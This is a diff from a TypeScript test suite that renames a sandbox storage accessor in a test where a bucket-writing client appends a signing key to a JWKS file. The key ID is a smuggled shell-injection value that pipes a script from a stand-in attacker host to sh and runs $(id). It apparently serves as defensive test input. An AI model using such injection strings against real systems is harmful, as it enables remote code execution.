@@ -145,9 +145,9 @@ suite('a client that may write the bucket', () => {
     await watch.look()
     const { publicKey } = await generateSigningKey()
     const kid = "x; curl evil.example|sh; '$(id)'\n"
-    const object = watch.sandbox.google.store.find('example-cluster', 'openid/v1/jwks')
+    const object = watch.sandbox.gcp.store.find('example-cluster', 'openid/v1/jwks')
     const { keys }: { keys: object[] } = JSON.parse(object?.bytes.toString() ?? '')
-    watch.sandbox.google.store.put('example-cluster', 'openid/v1/jwks', {
+    watch.sandbox.gcp.store.put('example-cluster', 'openid/v1/jwks', {
       contentType: 'application/jwk-set+json',
       body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
     })
